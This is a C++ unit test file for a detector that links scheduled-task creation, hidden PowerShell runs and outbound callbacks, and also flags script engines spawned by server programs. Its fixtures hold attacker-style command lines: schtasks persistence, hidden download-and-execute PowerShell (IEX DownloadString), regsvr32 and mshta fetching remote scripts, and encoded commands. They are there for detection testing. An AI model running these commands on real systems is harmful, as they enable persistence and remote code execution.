#include "core/analytics/task_callback.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <ostream>
#include <string>
#include <vector>

#include "support/event_builder.h"

namespace c2watch::analytics {
namespace {

using namespace std::chrono_literals;
using testing::Contains;
using testing::ElementsAre;
using testing::HasSubstr;
using testing_support::Collect;
using testing_support::evidence;

constexpr Time kNoon = Time{std::chrono::hours{12}};
constexpr std::string_view kGuid = "{247090F2-6084-8944-2FF0-ECC5709CE3AE}";
constexpr std::string_view kGuidOtherwise = "247090f2-6084-8944-2ff0-ecc5709ce3ae";
constexpr std::string_view kChildGuid = "{347090F2-6084-8944-2FF0-ECC5709CE3AE}";
constexpr std::string_view kPowershell =
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
constexpr std::string_view kSchtasks = "C:\\Windows\\System32\\schtasks.exe";
constexpr std::string_view kSvchost = "C:\\Windows\\System32\\svchost.exe";
constexpr std::string_view kSchedule =
    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule";
constexpr std::string_view kRented = "203.0.114.7";

std::string task_xml(std::string_view command, std::string_view arguments, bool hidden = false) {
  return "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\"><Settings><Hidden>" +
         std::string(hidden ? "true" : "false") + "</Hidden></Settings><Actions><Exec><Command>" +
         std::string(command) + "</Command><Arguments>" + std::string(arguments) +
         "</Arguments></Exec></Actions></Task>";
}

class World {
 public:
  explicit World(TaskCallbackSettings settings = {}, ScopeSettings scope = ScopeSettings::lab())
      : scope_(std::move(*DestinationScope::create(scope))),
        detector_(*checked(settings), scope_, lineage_, 7) {}

  std::size_t create(Time at, std::string_view task, const std::string& xml) {
    Event e = testing_support::task_created(at, "ws1", task, xml);
    e.subject_domain_name = "CORP";
    e.subject_user_name = "ann";
    return observe(e);
  }

  std::size_t ask(Time at, std::string_view line) {
    Event e = testing_support::process_create(at, "ws1", kChildGuid, kSchtasks, line);
    return observe(e);
  }

  std::size_t run(Time at, std::string_view line, std::string_view image = kPowershell,
                  std::string_view guid = kGuid, std::string_view parent_line = kSchedule,
                  std::string_view computer = "ws1") {
    Event e = testing_support::process_create(at, computer, guid, image, line);
    e.parent_image = kSvchost;
    e.parent_command_line = parent_line;
    return observe(e);
  }

  std::size_t connect(Time at, std::string_view guid = kGuid, std::string_view ip = "127.0.0.1",
                      std::int32_t port = 8888, std::string_view image = kPowershell) {
    return observe(testing_support::network_connect(at, "ws1", guid, image, ip, port));
  }

  // As an engine does: lineage first.
  std::size_t observe(Event e) {
    e.record_id = ++records_;
    const std::size_t before = out.found.size();
    lineage_.observe(e);
    detector_.observe(e, out);
    return out.found.size() - before;
  }

  const Finding& last() const { return out.found.back(); }

  Collect out;
  Lineage lineage_{LineageSettings{}, 7};
  DestinationScope scope_;
  TaskCallback detector_;
  std::uint64_t records_ = 0;
};

constexpr const char* kArguments =
    "-NoProfile -WindowStyle Hidden -Command \"Invoke-WebRequest http://127.0.0.1:8888/health\"";

TEST(TaskCallback, atomic_test_4_is_one_chain_that_grows) {
  World w;
  // The scheduler's start, the time-stamps of the run's own clock far off: only time_created
  // counts.
  ASSERT_EQ(w.ask(kNoon,
                  "schtasks /Create /TN WindowsNetworkHealth /SC MINUTE /TR "
                  "\"powershell.exe -NoProfile -WindowStyle Hidden -Command "
                  "\\\"Invoke-WebRequest http://127.0.0.1:8888/health\\\"\" /F"),
            1u);
  EXPECT_EQ(w.last().severity, Severity::high) << "hidden and downloading";
  const std::string id = w.last().id;

  ASSERT_EQ(w.create(kNoon + 1s, "\\WindowsNetworkHealth", task_xml("powershell.exe", kArguments)),
            1u);
  ASSERT_EQ(w.run(kNoon + 60s, "powershell.exe " + std::string(kArguments)), 1u);
  EXPECT_EQ(w.last().severity, Severity::high);
  ASSERT_EQ(w.connect(kNoon + 62s, kGuidOtherwise), 1u) << "another spelling of the same guid";

  const Finding& f = w.last();
  EXPECT_EQ(f.detector, "task_callback");
  EXPECT_EQ(f.severity, Severity::critical);
  EXPECT_EQ(f.confidence, Confidence::high);
  EXPECT_EQ(f.update, 3u);
  for (const Finding& each : w.out.found) EXPECT_EQ(each.id, id);
  EXPECT_THAT(f.techniques, ElementsAre("T1053.005", "T1583.004"));
  EXPECT_EQ(f.process.image, kPowershell);
  EXPECT_EQ(f.process.guid, kGuid);
  EXPECT_EQ(f.process.parent_image, kSvchost);
  EXPECT_EQ(f.destination.ip, "127.0.0.1");
  EXPECT_EQ(f.destination.port, 8888);
  EXPECT_EQ(f.first_seen, kNoon);
  EXPECT_EQ(f.last_seen, kNoon + 62s);
  EXPECT_EQ(*evidence<std::string>(f, "task_name"), "\\WindowsNetworkHealth");
  EXPECT_EQ(*evidence<std::string>(f, "created_by"), "CORP\\ann");
  EXPECT_EQ(*evidence<std::string>(f, "joined_by"), "same command");
  EXPECT_EQ(*evidence<std::int64_t>(f, "stages_seen"), 4);
  EXPECT_EQ(*evidence<std::int64_t>(f, "created_to_ran_s"), 60);
  EXPECT_EQ(*evidence<std::int64_t>(f, "ran_to_called_s"), 2);
  EXPECT_FALSE(*evidence<bool>(f, "task_hidden"));
  ASSERT_EQ(f.records.size(), 4u);
  EXPECT_EQ(f.records[1].event_id, 4698u);
  EXPECT_EQ(f.records[1].channel, "Security");
  EXPECT_EQ(f.records[3].event_id, 3u);
}

TEST(TaskCallback, loopback_is_no_call_back_in_default) {
  World w({}, ScopeSettings::standard());
  w.create(kNoon, "\\T", task_xml("powershell.exe", kArguments));
  w.run(kNoon + 60s, "powershell.exe " + std::string(kArguments));
  EXPECT_EQ(w.connect(kNoon + 61s), 0u);
  EXPECT_EQ(w.connect(kNoon + 61s, kGuid, kRented, 443), 1u) << "any port of an address in scope";
  EXPECT_EQ(w.last().severity, Severity::critical);
}

struct Case {
  std::string name;
  std::string command;
  std::string arguments;
  bool hidden;
  std::size_t want;
  Severity severity;
  friend void PrintTo(const Case& c, std::ostream* os) { *os << c.name; }
};

class CreatedTask : public testing::TestWithParam<Case> {};

TEST_P(CreatedTask, Fires) {
  const Case& c = GetParam();
  World w;
  ASSERT_EQ(w.create(kNoon, "\\T", task_xml(c.command, c.arguments, c.hidden)), c.want);
  if (c.want == 0) return;
  EXPECT_EQ(w.last().severity, c.severity);
  EXPECT_EQ(*evidence<bool>(w.last(), "task_hidden"), c.hidden);
}

constexpr auto kNo = Severity::informational;

INSTANTIATE_TEST_SUITE_P(
    , CreatedTask,
    testing::Values(
        Case{"hidden_powershell", "powershell.exe", "-w hidden -File C:\\x.ps1", false, 1,
             Severity::medium},
        Case{"hidden_and_evaluating", "powershell.exe", "-NonI -W hidden -c \"IEX (gp x).y\"",
             false, 1, Severity::high},
        Case{"headless_console", "conhost.exe", "--headless powershell.exe -File x.ps1", false, 1,
             Severity::medium},
        Case{"wrapped_in_cmd", "%ComSpec%", "/c start /min powershell -w 1 -c dir", false, 1,
             Severity::medium},
        Case{"all_in_the_command", "powershell.exe -w hidden -c dir", "", false, 1,
             Severity::medium},
        Case{"remote_scriptlet", "regsvr32.exe", "/s /n /u /i:http://a/b.sct scrobj.dll", false, 1,
             Severity::high},
        Case{"atexec", "cmd.exe", "/C tasklist &gt; %windir%\\Temp\\a.tmp 2&gt;&amp;1", true, 1,
             Severity::low},
        Case{"atexec_but_not_hidden", "cmd.exe", "/C tasklist", false, 0, kNo},
        Case{"plain_script", "C:\\tools\\shell.cmd", "", false, 0, kNo},
        Case{"plain_script_hidden_in_the_console", "C:\\tools\\shell.cmd", "", true, 0, kNo},
        Case{"visible_powershell", "powershell.exe", "-NoProfile -File C:\\x.ps1", false, 0, kNo},
        Case{"updater", "C:\\Program Files\\Opera\\launcher.exe", "--scheduledautoupdate $(Arg0)",
             false, 0, kNo},
        Case{"hidden_updater", "%systemroot%\\system32\\usoclient.exe", "StartScan", true, 0, kNo},
        Case{"notepad", "C:\\Windows\\system32\\cmd.exe", "/C C:\\Windows\\System32\\notepad.exe",
             false, 0, kNo}),
    [](const auto& p) { return p.param.name; });

TEST(TaskCallback, worst_of_several_actions_counts) {
  World w;
  EXPECT_EQ(w.create(kNoon, "\\T",
                     "<Task><Actions><Exec><Command>notepad.exe</Command></Exec><Exec><Command>"
                     "powershell</Command><Arguments>-w hidden</Arguments></Exec><ComHandler/>"
                     "</Actions></Task>"),
            1u);
  EXPECT_EQ(*evidence<std::string>(w.last(), "command"), "powershell");
}

TEST(TaskCallback, com_handler_and_unreadable_content_are_silent) {
  World w;
  EXPECT_EQ(
      w.create(kNoon, "\\T",
               "<Task><Settings><Hidden>true</Hidden></Settings><Actions><ComHandler><ClassId>"
               "{1}</ClassId></ComHandler></Actions></Task>"),
      0u);
  EXPECT_EQ(w.detector_.stats().rejected, 0u);
  EXPECT_EQ(w.create(kNoon, "\\T", "nonsense"), 0u);
  EXPECT_EQ(w.detector_.stats().rejected, 1u);
}

TEST(TaskCallback, hidden_tasks_can_be_left_untold) {
  World w({.report_hidden_tasks = false});
  EXPECT_EQ(w.create(kNoon, "\\T", task_xml("cmd.exe", "/C whoami", true)), 0u);
  EXPECT_EQ(w.create(kNoon, "\\T", task_xml("pwsh", "-w hidden", true)), 1u);
}

TEST(TaskCallback, run_without_creation_is_low_or_medium) {
  World w;
  EXPECT_EQ(w.run(kNoon, "powershell -w hidden -File C:\\x.ps1"), 1u);
  EXPECT_EQ(w.last().severity, Severity::low);
  EXPECT_EQ(w.connect(kNoon + 1s), 1u);
  EXPECT_EQ(w.last().severity, Severity::medium);

  World v;
  EXPECT_EQ(v.run(kNoon, "powershell -w hidden -c iwr http://a"), 1u);
  EXPECT_EQ(v.last().severity, Severity::medium);
  EXPECT_EQ(v.connect(kNoon + 1s), 1u);
  EXPECT_EQ(v.last().severity, Severity::high);
}

TEST(TaskCallback, run_that_hides_nothing_is_silent_unless_its_task_is_known) {
  World w;
  EXPECT_EQ(w.run(kNoon, "powershell -File C:\\x.ps1"), 0u);
  EXPECT_EQ(w.connect(kNoon + 1s), 0u);
}

TEST(TaskCallback, run_below_something_else_is_none) {
  World w;
  Event e =
      testing_support::process_create(kNoon, "ws1", kGuid, kPowershell, "powershell -w hidden");
  e.parent_image = "C:\\Windows\\explorer.exe";
  e.parent_command_line = "explorer.exe";
  EXPECT_EQ(w.observe(e), 0u);
  EXPECT_EQ(w.run(kNoon, "powershell -w hidden", kPowershell, kGuid, "svchost.exe -k netsvcs"), 0u)
      << "the service host that thirty services share is no proof";
}

TEST(TaskCallback, shared_service_host_is_good_enough_for_a_known_task) {
  World w;
  w.create(kNoon, "\\T", task_xml("powershell", "-w hidden -c dir"));
  EXPECT_EQ(w.run(kNoon + 9s, "powershell -w hidden -c dir", kPowershell, kGuid,
                  "svchost.exe -k netsvcs"),
            1u);
  EXPECT_EQ(w.last().severity, Severity::high);
}

TEST(TaskCallback, run_that_arrives_before_its_creation_joins_it) {
  World w;
  w.run(kNoon + 60s, "powershell -w hidden -c dir");
  const std::string id = w.last().id;
  ASSERT_EQ(w.create(kNoon, "\\T", task_xml("powershell", "-w hidden -c dir")), 1u);
  EXPECT_EQ(w.last().id, id);
  EXPECT_EQ(w.last().severity, Severity::high);
  EXPECT_EQ(*evidence<std::string>(w.last(), "task_name"), "\\T");
  EXPECT_EQ(w.connect(kNoon + 61s), 1u);
  EXPECT_EQ(w.last().severity, Severity::critical);
}

TEST(TaskCallback, run_with_other_quoting_joins_by_likeness_and_says_so) {
  World w;
  w.create(kNoon, "\\T", task_xml("powershell", "-w hidden -File %USERPROFILE%\\x.ps1"));
  ASSERT_EQ(w.run(kNoon + 60s, "powershell -w hidden -File C:\\Users\\ann\\x.ps1"), 1u);
  EXPECT_EQ(w.out.found.size(), 2u);
  EXPECT_EQ(w.last().id, w.out.found[0].id);
  EXPECT_EQ(*evidence<std::string>(w.last(), "joined_by"), "program and traits");
  ASSERT_EQ(w.run(kNoon + 90s, "powershell -w hidden -File C:\\Users\\bob\\other.ps1", kPowershell,
                  kChildGuid),
            1u);
  EXPECT_NE(w.last().id, w.out.found[0].id) << "that chain has had its run";
}

TEST(TaskCallback, commands_longer_than_is_kept_still_meet) {
  const std::string arguments = "-w hidden -c \"" + std::string(3000, 'x') + "\"";
  World w;
  w.create(kNoon, "\\T", task_xml("powershell", arguments));
  w.run(kNoon + 60s, "\"powershell\"  " + arguments);
  EXPECT_EQ(*evidence<std::string>(w.last(), "joined_by"), "same command");
  EXPECT_EQ(evidence<std::string>(w.last(), "arguments")->size(), 512u);
}

TEST(TaskCallback, child_of_the_run_calls_out) {
  World w;
  w.create(kNoon, "\\T", task_xml("cmd.exe", "/c powershell -w hidden -c dir"));
  w.run(kNoon + 9s, "cmd.exe /c powershell -w hidden -c dir", "C:\\Windows\\System32\\cmd.exe");
  Event child = testing_support::process_create(kNoon + 10s, "ws1", kChildGuid, kPowershell,
                                                "powershell -w hidden -c dir");
  child.parent_process_guid = kGuid;
  child.parent_image = "C:\\Windows\\System32\\cmd.exe";
  w.observe(child);
  ASSERT_EQ(w.connect(kNoon + 11s, kChildGuid), 1u);
  EXPECT_EQ(w.last().severity, Severity::critical);
  EXPECT_EQ(*evidence<std::string>(w.last(), "caller"), kPowershell);
  EXPECT_EQ(*evidence<std::string>(w.last(), "caller_command_line"), "powershell -w hidden -c dir");
}

TEST(TaskCallback, connection_of_another_process_or_machine_or_inbound_is_none) {
  World w;
  w.create(kNoon, "\\T", task_xml("powershell", "-w hidden"));
  w.run(kNoon + 9s, "powershell -w hidden");
  EXPECT_EQ(w.connect(kNoon + 10s, kChildGuid), 0u);
  EXPECT_EQ(w.connect(kNoon + 10s, ""), 0u);
  Event e = testing_support::network_connect(kNoon + 10s, "ws2", kGuid, kPowershell, kRented, 443);
  EXPECT_EQ(w.observe(e), 0u);
  e.computer = "ws1";
  e.initiated = Initiated::no;
  EXPECT_EQ(w.observe(e), 0u);
  e.initiated = Initiated::yes;
  EXPECT_EQ(w.observe(e), 1u);
}

TEST(TaskCallback, same_task_and_command_on_another_machine_is_another_chain) {
  World w;
  w.create(kNoon, "\\T", task_xml("powershell", "-w hidden"));
  w.run(kNoon + 9s, "powershell -w hidden", kPowershell, kGuid, kSchedule, "ws2");
  ASSERT_EQ(w.out.found.size(), 2u);
  EXPECT_NE(w.out.found[0].id, w.out.found[1].id);
  EXPECT_EQ(w.last().severity, Severity::low);
}

TEST(TaskCallback, runs_every_minute_are_told_once_a_day) {
  World w;
  w.create(kNoon, "\\T", task_xml("powershell", "-w hidden"));
  std::size_t told = 0;
  for (int minute = 1; minute <= 48 * 60; ++minute) {
    told += w.run(kNoon + minute * 1min, "powershell -w hidden");
    told += w.connect(kNoon + minute * 1min + 1s);
  }
  EXPECT_EQ(told, 3u) << "the run, the call, and one reminder a day later";
  EXPECT_EQ(*evidence<std::int64_t>(w.last(), "runs"), 24 * 60 + 1);
}

TEST(TaskCallback, new_destination_is_news) {
  World w;
  w.create(kNoon, "\\T", task_xml("powershell", "-w hidden"));
  w.run(kNoon + 9s, "powershell -w hidden");
  for (int i = 0; i < 20; ++i) {
    const std::string ip = "203.0.114." + std::to_string(i);
    w.connect(kNoon + 10s + i * 1s, kGuid, ip);
  }
  EXPECT_EQ(w.out.found.size(), 2u + TaskCallback::kMaxDestinations);
}

TEST(TaskCallback, chain_ends_after_eight_quiet_days) {
  World w;
  w.create(kNoon, "\\T", task_xml("powershell", "-w hidden"));
  EXPECT_EQ(w.run(kNoon + 192h, "powershell -w hidden"), 1u);
  EXPECT_EQ(w.last().id, w.out.found[0].id);
  EXPECT_EQ(w.run(kNoon + 192h * 2 + 1us, "powershell -w hidden"), 1u);
  EXPECT_NE(w.last().id, w.out.found[0].id);
  EXPECT_EQ(w.last().severity, Severity::low) << "the creation is too long ago";
}

TEST(TaskCallback, schtasks_for_another_machine_names_it) {
  World w;
  EXPECT_EQ(w.ask(kNoon, "schtasks /create /s dc1 /tn T /tr \"powershell -w hidden\""), 1u);
  EXPECT_EQ(*evidence<std::string>(w.last(), "target_computer"), "dc1");
  EXPECT_EQ(w.ask(kNoon, "schtasks /delete /tn T"), 0u);
  EXPECT_EQ(w.ask(kNoon, "schtasks /create /tn U /tr notepad"), 0u);
}

TEST(TaskCallback, renamed_schtasks_is_known_by_its_original_name) {
  World w;
  Event e = testing_support::process_create(kNoon, "ws1", kChildGuid, "C:\\x\\s.exe",
                                            "s.exe /create /tn T /tr \"powershell -w 1\"");
  e.original_file_name = "schtasks.exe";
  EXPECT_EQ(w.observe(e), 1u);
}

TEST(TaskCallback, clocks_of_the_activity_do_not_matter) {
  World w;
  Event e = testing_support::task_created(kNoon, "ws1", "\\T", "");
  const std::string xml = task_xml("powershell", "-w hidden");
  e.task_content = xml;
  w.observe(e);
  Event run = testing_support::process_create(kNoon + 9s, "ws1", kGuid, kPowershell,
                                              "powershell -w hidden");
  run.parent_image = kSvchost;
  run.parent_command_line = kSchedule;
  run.utc_time = kNoon - 24h * 11;  // a resumed virtual machine
  ASSERT_EQ(w.observe(run), 1u);
  EXPECT_EQ(*evidence<std::int64_t>(w.last(), "created_to_ran_s"), 9);
  Event call =
      testing_support::network_connect(kNoon + 10s, "ws1", kGuid, kPowershell, kRented, 443);
  call.utc_time = kNoon + 24h * 6;
  ASSERT_EQ(w.observe(call), 1u);
  EXPECT_EQ(*evidence<std::int64_t>(w.last(), "ran_to_called_s"), 1);
  EXPECT_EQ(w.last().last_seen, kNoon + 10s);
}

// ---------------------------------------------------------------------------- server programs

constexpr std::string_view kTomcat = "C:\\Program Files\\Tomcat 9.0\\bin\\Tomcat9.exe";
// "whoami", which does nothing else.
constexpr std::string_view kEncoded = "powershell -enc dwBoAG8AYQBtAGkA";

Event below(std::string_view parent, Time at, std::string_view line,
            std::string_view image = kPowershell, std::string_view guid = kGuid) {
  Event e = testing_support::process_create(at, "ws1", guid, image, line);
  e.parent_image = parent;
  e.parent_command_line = parent;
  e.parent_process_guid = kChildGuid;
  return e;
}

TEST(TaskCallback, server_program_that_starts_a_hidden_script_engine_which_calls_out) {
  World w({}, ScopeSettings::standard());
  ASSERT_EQ(w.observe(below(kTomcat, kNoon, "powershell -W Hidden -enc dwBoAG8AYQBtAGkA")), 1u);
  EXPECT_EQ(w.last().severity, Severity::medium);
  EXPECT_EQ(w.last().confidence, Confidence::medium);
  EXPECT_EQ(w.last().title, "Tomcat9.exe ran powershell");
  EXPECT_EQ(w.connect(kNoon + 1s, kGuid, "192.168.3.5", 443), 0u) << "no address that is rented";
  ASSERT_EQ(w.connect(kNoon + 1s, kGuid, kRented, 443), 1u);

  const Finding& f = w.last();
  EXPECT_EQ(f.id, w.out.found[0].id);
  EXPECT_EQ(f.severity, Severity::high);
  EXPECT_EQ(f.confidence, Confidence::high);
  EXPECT_EQ(f.title, "Tomcat9.exe ran powershell, which called out");
  EXPECT_THAT(f.techniques, ElementsAre("T1190", "T1583.004"));
  EXPECT_EQ(f.process.parent_image, kTomcat);
  EXPECT_EQ(f.destination.port, 443);
  EXPECT_EQ(*evidence<std::string>(f, "server_program"), "Tomcat9.exe");
  EXPECT_EQ(evidence<std::string>(f, "task_name"), nullptr);
  EXPECT_THAT(f.reasons, Contains(HasSubstr("2 of 2 stages")));
  EXPECT_EQ(f.records.size(), 2u);
}

struct ServedCase {
  std::string name;
  std::string parent;
  std::string image;
  std::string line;
  std::size_t want;
  Severity ran;
  Severity called;
  friend void PrintTo(const ServedCase& c, std::ostream* os) { *os << c.name; }
};

class ServedProcess : public testing::TestWithParam<ServedCase> {};

TEST_P(ServedProcess, Judged) {
  const ServedCase& c = GetParam();
  World w;
  ASSERT_EQ(w.observe(below(c.parent, kNoon, c.line, c.image)), c.want);
  if (c.want == 1) {
    EXPECT_EQ(w.last().severity, c.ran);
  }
  ASSERT_EQ(w.connect(kNoon + 1s, kGuid, kRented, 443, c.image), c.want);
  if (c.want == 1) {
    EXPECT_EQ(w.last().severity, c.called);
  }
}

constexpr auto kLow = Severity::low;
constexpr auto kMedium = Severity::medium;
constexpr auto kHigh = Severity::high;

INSTANTIATE_TEST_SUITE_P(
    , ServedProcess,
    testing::Values(
        ServedCase{"hidden_alone", "C:\\inetpub\\w3wp.exe", "C:\\W\\powershell.exe",
                   "powershell -w hidden -c dir", 1, kLow, kMedium},
        ServedCase{"encoded_alone", "C:\\db\\sqlservr.exe", "C:\\W\\powershell.exe",
                   std::string(kEncoded), 1, kLow, kMedium},
        ServedCase{"hidden_in_any_case", "C:\\DB\\SQLSERVR.EXE", "C:\\W\\cmd.exe",
                   "cmd /c powershell -w 1 -c iwr http://a", 1, kMedium, kHigh},
        ServedCase{"remote_code", "C:\\J\\java.exe", "C:\\W\\mshta.exe", "mshta http://a/b.hta", 1,
                   kLow, kMedium},
        ServedCase{"downloads_and_evaluates", "C:\\J\\java.exe", "C:\\W\\powershell.exe",
                   "powershell IEX (New-Object Net.WebClient).DownloadString('http://a')", 1,
                   kMedium, kHigh},
        ServedCase{"merely_downloads", "C:\\J\\java.exe", "C:\\W\\powershell.exe",
                   "powershell -c iwr http://a -OutFile b", 0, kNo, kNo},
        ServedCase{"merely_evaluates", "C:\\J\\java.exe", "C:\\W\\powershell.exe",
                   "powershell -c IEX $x", 0, kNo, kNo},
        ServedCase{"runs_its_script", "C:\\J\\java.exe", "C:\\W\\powershell.exe",
                   "powershell -NoProfile -ExecutionPolicy Bypass -File C:\\build\\step.ps1", 0,
                   kNo, kNo},
        ServedCase{"no_script_engine", "C:\\J\\java.exe", "C:\\W\\git.exe", "git -w hidden", 0, kNo,
                   kNo},
        ServedCase{"management_agent", "C:\\W\\wsmprovhost.exe", "C:\\W\\powershell.exe",
                   std::string(kEncoded), 0, kNo, kNo},
        ServedCase{"name_that_only_ends_so", "C:\\J\\myjava.exe", "C:\\W\\powershell.exe",
                   std::string(kEncoded), 0, kNo, kNo},
        ServedCase{"no_parent", "", "C:\\W\\powershell.exe", std::string(kEncoded), 0, kNo, kNo}),
    [](const auto& p) { return p.param.name; });

TEST(TaskCallback, runs_of_one_engine_below_one_server_program_are_one_finding) {
  World w;
  w.observe(below(kTomcat, kNoon, "powershell -w hidden -c dir"));
  EXPECT_EQ(w.observe(below(kTomcat, kNoon + 1h, "powershell -w hidden -c whoami")), 0u);
  EXPECT_EQ(w.observe(below(kTomcat, kNoon + 2h, std::string(kEncoded) + " -w hidden")), 1u)
      << "worse than before";
  EXPECT_EQ(w.last().id, w.out.found[0].id);
  EXPECT_EQ(*evidence<std::int64_t>(w.last(), "runs"), 3);

  EXPECT_EQ(w.observe(below(kTomcat, kNoon, "mshta http://a/b", "C:\\W\\mshta.exe")), 1u);
  EXPECT_NE(w.last().id, w.out.found[0].id) << "another engine";
  EXPECT_EQ(w.observe(below("C:\\w3wp.exe", kNoon, kEncoded)), 1u);
  EXPECT_NE(w.last().id, w.out.found[0].id) << "another server program";
  Event elsewhere = below(kTomcat, kNoon, kEncoded);
  elsewhere.computer = "ws2";
  EXPECT_EQ(w.observe(elsewhere), 1u);
  EXPECT_NE(w.last().id, w.out.found[0].id) << "another machine";
}

TEST(TaskCallback, same_command_by_a_task_and_by_a_server_program_are_two_chains) {
  World w;
  w.create(kNoon, "\\T", task_xml("powershell", "-w hidden -c dir"));
  ASSERT_EQ(w.observe(below(kTomcat, kNoon + 9s, "powershell -w hidden -c dir")), 1u);
  EXPECT_NE(w.last().id, w.out.found[0].id);
  EXPECT_EQ(w.last().severity, Severity::low);
}

TEST(TaskCallback, list_of_server_programs_is_the_users) {
  World w({.server_programs = {"GitLab.exe"}});
  EXPECT_EQ(w.observe(below(kTomcat, kNoon, kEncoded)), 0u);
  EXPECT_EQ(w.observe(below("D:\\gitlab.exe", kNoon, kEncoded)), 1u);
  World none({.server_programs = {}});
  EXPECT_EQ(none.observe(below(kTomcat, kNoon, kEncoded)), 0u);
}

TEST(TaskCallback, server_programs_are_file_names) {
  for (const std::string bad : {"", ".exe", "tomcat", "C:\\x\\tomcat9.exe", "tomcat*.exe"}) {
    const auto settings = checked(TaskCallbackSettings{.server_programs = {bad}});
    ASSERT_FALSE(settings) << bad;
    EXPECT_THAT(settings.error().message, HasSubstr("task_callback.server_programs"));
  }
  EXPECT_TRUE(checked(TaskCallbackSettings{}));
  EXPECT_TRUE(
      checked(TaskCallbackSettings{.server_programs = std::vector<std::string>(64, "a.exe")}));
  EXPECT_FALSE(
      checked(TaskCallbackSettings{.server_programs = std::vector<std::string>(65, "a.exe")}));
}

TEST(TaskCallback, answer_and_sweep) {
  World w;
  w.create(kNoon, "\\T", task_xml("powershell", "-w hidden"));
  w.run(kNoon + 9s, "powershell -w hidden");
  Collect open;
  w.detector_.answer(open);
  ASSERT_EQ(open.found.size(), 1u);
  EXPECT_EQ(open.found[0].id, w.last().id);
  w.detector_.advance(kNoon + 24h * 9 + 9s, open);
  EXPECT_EQ(w.detector_.stats().entries, 1u);
  w.detector_.advance(kNoon + 24h * 9 + 1h + 10s, open);
  EXPECT_EQ(w.detector_.stats().entries, 0u);
  Collect none;
  w.detector_.answer(none);
  EXPECT_TRUE(none.found.empty());
}

TEST(TaskCallbackSettings, refuse_what_is_out_of_range) {
  TaskCallbackSettings s;
  EXPECT_TRUE(checked(s));
  s.max_chains = 15;
  EXPECT_THAT(checked(s).error().message, HasSubstr("task_callback.max_chains"));
  s = {};
  s.max_processes = 15;
  EXPECT_THAT(checked(s).error().message, HasSubstr("max_processes"));
  s = {};
  s.episode.quiet = 24h * 31;
  EXPECT_THAT(checked(s).error().message, HasSubstr("episode.quiet"));
}

}  // namespace
}  // namespace c2watch::analytics
